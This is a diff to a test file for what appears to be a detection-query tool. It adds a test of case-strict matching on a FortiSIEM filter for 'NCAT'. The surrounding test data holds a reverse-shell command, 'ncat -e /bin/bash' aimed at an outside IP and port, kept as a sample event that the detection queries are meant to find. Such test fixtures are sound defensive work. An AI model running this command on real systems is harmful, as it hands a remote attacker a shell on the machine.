@@ -36,6 +36,12 @@ def test_a_hit_is_its_event(language: str, query: str) -> None:
     assert event["process"]["args"] == ["ncat", "-e", "/bin/bash", "203.0.113.66", "4444"]
 
 
+def test_a_filter_is_read_as_strictly_as_is_asked() -> None:
+    query = ("search", "fortisiem", 'procName = "NCAT"', SHELL)
+    assert len(run(*query).documents) == 2
+    assert run(*query, "--strict", "case").documents == []
+
+
 def test_a_sequence_is_its_keys_and_events() -> None:
     (sequence,) = run("search", "eql", SEQUENCE, SHELL).documents
     assert set(sequence) == {"join_keys", "events"}
